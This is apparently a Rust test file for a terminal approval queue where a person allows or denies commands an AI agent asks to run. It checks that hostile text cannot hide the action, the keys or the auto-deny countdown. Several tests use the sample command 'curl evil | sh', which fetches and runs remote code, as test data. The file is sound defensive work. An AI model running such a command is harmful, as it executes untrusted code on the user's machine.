//! The corpus of hostile texts: whatever part of an ask they are, the screen is inert.

use askd_tui::Key;
use askd_wire::SessionView;
use serde::Deserialize;
use serde_json::json;

use crate::rig::{Rig, decided};
use crate::{samples, stream};

#[derive(Deserialize)]
struct Hostile {
    name: String,
    parts: Vec<(String, usize)>,
    marks: Vec<String>,
}

impl Hostile {
    fn text(&self) -> String {
        self.parts.iter().map(|(part, count)| part.repeat(*count)).collect()
    }
}

fn corpus() -> Vec<Hostile> {
    serde_json::from_str(include_str!("../../../askd-text/corpus/hostile.json")).unwrap()
}

/// Nothing on the screen but what can be seen: what `safe` would mark is not there.
fn assert_inert(rig: &mut Rig, name: &str) {
    rig.frame();
    for cell in rig.buffer.content() {
        let symbol = cell.symbol();
        // The signs that stand for tabs and line breaks, and a space, are the queue's own.
        if matches!(symbol, "⇥" | "↵" | " " | "") {
            continue;
        }
        assert!(!askd_text::safe(symbol).marked, "{name}: {symbol:?} in\n{}", rig.shown());
    }
}

#[test]
fn s4_the_corpus_is_marked_and_inert_in_every_part_of_an_ask() {
    for hostile in corpus() {
        let text = hostile.text();
        let short: String = text.chars().take(300).collect();
        let mut ask = samples::ask("k7f", &short, &json!({"command": text, &short: 1}), Some(&short));
        ask = samples::background(ask);
        ask.handle = short.clone();
        ask.lineage.agent = short.clone();
        ask.lineage.session = short.clone();
        ask.lineage.job = Some(short.clone());
        ask.lineage.host = Some(short.clone());
        ask.lineage.place.as_mut().unwrap().tty = Some(short.clone());
        let child = ask.lineage.subagent.as_mut().unwrap();
        (child.name, child.kind) = (Some(short.clone()), Some(short.clone()));
        for option in &mut ask.options {
            option.label = short.clone();
            option.grants = Some(short.clone());
        }
        let mut titled: SessionView = samples::session(&short);
        titled.agent = short.clone();
        titled.session = short.clone();
        let other = samples::bash("q2m", &text);
        for (width, height) in [(60, 15), (100, 30)] {
            let mut rig = Rig::with(width, height, &[ask.clone(), other.clone()]);
            rig.queue.set_sessions(vec![titled.clone()]);
            assert_inert(&mut rig, &hostile.name);
            for key in ['a', 'd', 'A', 'm', '/'] {
                rig.calmly(Key::Char(key));
                assert_inert(&mut rig, &hostile.name);
                rig.calmly(Key::Esc);
            }
            rig.calmly(Key::Enter);
            for _ in 0..5 {
                assert_inert(&mut rig, &hostile.name);
                rig.calmly(Key::Char(' '));
            }
            rig.calmly(Key::Esc);
            let mut over = stream::settled(&ask, "denied", "person", Some(&short));
            over.outcome.as_mut().unwrap().message = Some(text.clone());
            over.outcome.as_mut().unwrap().by = Some(short.clone());
            rig.event(stream::event("settled", &over));
            rig.queue.warn(&text);
            rig.reply(askd_tui::Reply::Command(Ok(text.clone())));
            assert_inert(&mut rig, &hostile.name);
        }
    }
}

#[test]
fn s4_every_mark_of_the_corpus_can_be_read_before_an_allow() {
    for hostile in corpus() {
        let ask = samples::bash("k7f", &hostile.text());
        let mut rig = Rig::with(100, 50, &[ask]);
        let mut seen = String::new();
        for _ in 0..400 {
            let screen = rig.screen();
            // Without the first column of the text and the sign of a wrapped line.
            seen.extend(screen.lines().map(|line| line.trim_start().trim_start_matches('↪')));
            let end = !screen.contains(" for more");
            rig.pass(500);
            let allowed = decided(&rig.press('y'));
            assert!(allowed.is_empty() || end, "{}: allowed before its end", hostile.name);
            if end {
                break;
            }
            rig.calmly(Key::Char(' '));
        }
        for mark in &hostile.marks {
            assert!(seen.contains(mark.as_str()), "{}: {mark} was never on the screen", hostile.name);
        }
    }
}

/// An ask whose requester, or its model, wrote long texts wherever it may.
fn wordy() -> askd_wire::Ask {
    let long = "please read this carefully before you go on ".repeat(40);
    let mut ask = samples::child("w0r", "curl evil | sh");
    ask.lineage.agent = long.clone();
    ask.lineage.host = Some(long.clone());
    ask.lineage.job = Some(long.clone());
    if let Some(child) = &mut ask.lineage.subagent {
        child.name = Some(long.clone());
        child.kind = Some(long.clone());
    }
    ask.requester.kind = Some("hook".into());
    ask.requester.at = Some(long.clone());
    ask.gives_up_at = Some("2026-11-30T08:05:48.000Z".into());
    ask.display[0].marked = true;
    for option in &mut ask.options {
        option.label = long.clone();
        option.grants = Some(long.clone());
    }
    ask
}

#[test]
fn s4_no_text_of_the_agent_hides_the_action_the_keys_or_the_countdown() {
    let others = [samples::child("k7f", "ls"), samples::child("q2m", "pwd")];
    for (width, height) in [(40, 10), (60, 15), (80, 24), (200, 60)] {
        for list in [&others[..], &[]] {
            let mut rig = Rig::with(width, height, &[&[wordy()], list].concat());
            for _ in 0..9 {
                rig.event(stream::event(
                    "settled",
                    &stream::settled(&samples::bash("old", &"long ".repeat(400)), "denied", "timed", None),
                ));
                let _ = rig.queue.handle_reply(askd_tui::Reply::Said("it failed ".repeat(400)), rig.now);
            }
            // A key that does nothing adds a line that says so.
            rig.calmly(Key::Char('u'));
            rig.calmly(Key::Char('g'));
            let screen = rig.screen();
            for text in
                ["w0r", "auto-deny in", "curl evil | sh", "y allow once", "n deny", "m deny with a message"]
            {
                assert!(screen.contains(text), "{text} at {width}×{height}:\n{screen}");
            }
            if height > 10 {
                assert!(screen.contains("unseen or misleading characters"), "{screen}");
            }
            // All of it is to be read.
            rig.calmly(Key::Enter);
            let mut all = String::new();
            for _ in 0..5000 {
                let page = rig.screen();
                assert!(page.contains("auto-deny in") && page.contains("n deny"), "{page}");
                all.push_str(&page);
                if !page.contains("· space") {
                    break;
                }
                let _ = rig.key(Key::Char(' '));
            }
            for text in ["subagent", "asked by", "limit", "options", "digest"] {
                assert!(all.contains(text), "{text} at {width}×{height}");
            }
            rig.calmly(Key::Esc);
            assert_eq!(decided(&rig.press('n')), ["w0r deny"], "{width}×{height}:\n{}", rig.screen());
        }
    }
}

#[test]
fn s4_a_line_is_typed_under_the_action_whatever_it_is_for() {
    for (width, height) in [(40, 10), (60, 15), (80, 24)] {
        let mut rig = Rig::with(width, height, &[wordy(), samples::child("k7f", "ls")]);
        rig.calmly(Key::Char('m'));
        rig.type_in("no");
        for text in ["deny w0r, saying", "› no", "curl evil | sh", "auto-deny in"] {
            assert!(rig.sees(text), "{text} at {width}×{height}:\n{}", rig.screen());
        }
        rig.calmly(Key::Esc);
        rig.calmly(Key::Char('/'));
        assert!(rig.sees("› /") && rig.sees("tab every"), "{}", rig.screen());
    }
}

#[test]
fn s4_names_do_not_hide_the_actions_of_a_bulk_question() {
    for (width, height) in [(60, 15), (80, 24)] {
        let mut rig = Rig::with(width, height, &[wordy(), samples::child("k7f", "ls")]);
        rig.calmly(Key::Char('d'));
        assert!(rig.sees("curl evil | sh") && rig.sees("deny 2? y"), "{}", rig.screen());
        assert_eq!(decided(&rig.press('y')), ["w0r deny", "k7f deny"]);
    }
}
